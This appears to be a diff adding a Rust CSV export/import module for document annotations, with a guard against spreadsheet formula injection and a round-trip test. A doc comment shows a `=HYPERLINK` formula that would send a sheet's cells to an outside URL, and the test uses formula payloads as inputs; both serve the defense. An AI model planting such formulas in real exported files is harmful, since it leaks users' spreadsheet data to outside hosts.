@@ -1,0 +1,251 @@
+//! CSV for spreadsheets, pandas and R: a header row, then one row per annotation and tag (an
+//! annotation with two tags is two rows, one without tags is one row with an empty tag), quoted
+//! as RFC 4180 says, in UTF-8 with a byte-order mark so that spreadsheets do not guess another
+//! encoding (pandas and readr skip it; base R needs `fileEncoding = "UTF-8-BOM"`). The last
+//! column, the annotation's id, groups the rows of one annotation and lets an import recognise it.
+//!
+//! Spreadsheets run a cell that begins with `=`, `+`, `-` or `@` (or a tab or CR) as a formula:
+//! a note `=HYPERLINK("http://…?"&A1, "x")` becomes a live link that sends the sheet's cells
+//! away. As the OWASP CSV Injection guidance recommends, such a text cell is written behind a
+//! single quote (`'=HYPERLINK(…)`), which spreadsheets show as text; see [`guard`]. Reading
+//! undoes it ([`unguard`]), so a round trip is exact.
+//! [`Options::raw_cells`](crate::core::formats::Options::raw_cells) writes the cells as they are.
+
+use std::io::{self, Write};
+
+use crate::core::formats::import::{Batch, Incoming};
+use crate::core::formats::{Material, Options, TagInfo};
+
+pub const HEADER: [&str; 13] = [
+    "document",
+    "title",
+    "start",
+    "end",
+    "quote",
+    "tag",
+    "tag group",
+    "note",
+    "annotator",
+    "created",
+    "modified",
+    "modified_by",
+    "id",
+];
+
+const BOM: &[u8] = "\u{feff}".as_bytes();
+
+/// The first characters that make a spreadsheet read a cell as a formula, as the OWASP CSV
+/// Injection page lists them: `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `cell` needs a leading `'` to be read as text: it starts like a formula, or with a
+/// `'` that reading would otherwise take for the guard (so that `'=x` itself survives).
+fn needs_guard(cell: &str) -> bool {
+    match cell.strip_prefix('\'') {
+        Some(rest) => needs_guard(rest),
+        None => cell.starts_with(FORMULA_STARTS),
+    }
+}
+
+/// `cell` as a spreadsheet reads it as text: behind a `'` if [`needs_guard`] says so.
+pub fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_guard(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Undoes [`guard`]: the cell without the `'` it added, any other cell as it is.
+pub fn unguard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_guard(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// The I/O error inside a csv error, so that a closed pipe stays a closed pipe.
+fn io_error(e: ::csv::Error) -> io::Error {
+    match e.into_kind() {
+        ::csv::ErrorKind::Io(e) => e,
+        other => io::Error::other(format!("{other:?}")),
+    }
+}
+
+pub fn write(material: &Material, options: Options, out: &mut dyn Write) -> io::Result<()> {
+    out.write_all(BOM)?;
+    let mut csv = ::csv::Writer::from_writer(out);
+    let cell = |text: &str| -> String {
+        if options.raw_cells {
+            text.to_owned()
+        } else {
+            guard(text).into_owned()
+        }
+    };
+    csv.write_record(HEADER).map_err(io_error)?;
+    for doc in &material.docs {
+        for a in &doc.annotations {
+            let untagged = [String::new()];
+            let tags = if a.tags.is_empty() {
+                &untagged[..]
+            } else {
+                &a.tags[..]
+            };
+            for tag in tags {
+                csv.write_record([
+                    cell(&doc.rel_path),
+                    cell(&doc.title),
+                    a.start.to_string(),
+                    a.end.to_string(),
+                    cell(&a.quote),
+                    cell(tag),
+                    cell(material.group_of(tag)),
+                    cell(&a.note),
+                    cell(&a.annotator),
+                    cell(&a.created),
+                    cell(&a.modified),
+                    cell(&a.modified_by),
+                    cell(&a.id),
+                ])
+                .map_err(io_error)?;
+            }
+        }
+    }
+    csv.flush()
+}
+
+/// Reads rows written by [`write`], or by a spreadsheet from them: columns are found by their
+/// header, so they may be reordered, and only `document`, `start`, `end` and `quote` are needed.
+/// Rows of the same annotation (same id, or same document and span when there is no id) are
+/// joined. Text cells are [`unguard`]ed.
+pub fn read(data: &[u8]) -> Result<Batch, String> {
+    let data = data.strip_prefix(BOM).unwrap_or(data);
+    let mut reader = ::csv::ReaderBuilder::new().flexible(true).from_reader(data);
+    let header = reader.headers().map_err(|e| e.to_string())?.clone();
+    let column = |name: &str| header.iter().position(|h| h.trim() == name);
+    let required = |name: &str| {
+        column(name).ok_or_else(|| {
+            format!(
+                "no `{name}` column: the header row needs {}",
+                HEADER.join(", ")
+            )
+        })
+    };
+    let (document, start, end, quote) = (
+        required("document")?,
+        required("start")?,
+        required("end")?,
+        required("quote")?,
+    );
+    // The columns after `quote`, in the order `HEADER` gives them; each may be missing.
+    let [
+        tag,
+        group,
+        note,
+        annotator,
+        created,
+        modified,
+        modified_by,
+        id,
+    ] = <[&str; 8]>::try_from(&HEADER[5..])
+        .expect("HEADER has 13 columns")
+        .map(column);
+    let mut batch = Batch::default();
+    // Annotations whose rows give different notes: which row was edited cannot be told.
+    let mut disagree: Vec<usize> = Vec::new();
+    for (row, record) in reader.records().enumerate() {
+        let record = record.map_err(|e| e.to_string())?;
+        let line = row + 2;
+        let get =
+            |i: Option<usize>| unguard(i.and_then(|i| record.get(i)).unwrap_or("")).to_owned();
+        let some = |i: Option<usize>| Some(get(i)).filter(|s| !s.is_empty());
+        let number = |i: usize, name: &str| {
+            get(Some(i))
+                .trim()
+                .parse::<usize>()
+                .map_err(|_| format!("line {line}: `{name}` is not a whole number"))
+        };
+        let inc = Incoming {
+            document: get(Some(document)),
+            id: some(id),
+            start: number(start, "start")?,
+            end: number(end, "end")?,
+            quote: Some(get(Some(quote))),
+            note: get(note),
+            annotator: some(annotator),
+            created: some(created),
+            modified: some(modified),
+            modified_by: some(modified_by),
+            origin: format!("line {line}"),
+            ..Incoming::default()
+        };
+        let tag_name = get(tag);
+        if !tag_name.is_empty() && !batch.tags.iter().any(|t| t.name == tag_name) {
+            batch.tags.push(TagInfo {
+                name: tag_name.clone(),
+                group: get(group),
+                ..TagInfo::default()
+            });
+        }
+        let same = |other: &Incoming| match &inc.id {
+            Some(id) => other.id.as_ref() == Some(id) && other.document == inc.document,
+            None => {
+                other.id.is_none()
+                    && other.document == inc.document
+                    && (other.start, other.end) == (inc.start, inc.end)
+            }
+        };
+        let at = match batch.annotations.iter().position(same) {
+            Some(at) => at,
+            None => {
+                batch.annotations.push(inc);
+                batch.annotations.len() - 1
+            }
+        };
+        let joined = &mut batch.annotations[at];
+        if joined.note != get(note) && !disagree.contains(&at) {
+            disagree.push(at);
+        }
+        if !tag_name.is_empty() && !joined.tags.contains(&tag_name) {
+            joined.tags.push(tag_name);
+        }
+        if !joined.origin.ends_with(&format!(" {line}")) {
+            joined.origin = joined.origin.replacen("line ", "lines ", 1) + &format!(", {line}");
+        }
+    }
+    for at in disagree.into_iter().rev() {
+        let inc = batch.annotations.remove(at);
+        batch.not_placed.push(format!(
+            "{} {}..{} ({}): its rows give different notes; give each row of an annotation \
+             the same note",
+            inc.document, inc.start, inc.end, inc.origin
+        ));
+    }
+    Ok(batch)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_guarded_and_every_cell_comes_back_as_it_was() {
+        for (cell, written) in [
+            ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("'=1", "''=1"),
+            ("''@", "'''@"),
+            ("'tis", "'tis"),
+            ("a=b", "a=b"),
+            ("", ""),
+            ("'", "'"),
+        ] {
+            assert_eq!(guard(cell), written, "{cell:?}");
+            assert_eq!(unguard(written), cell, "{written:?}");
+        }
+    }
+}
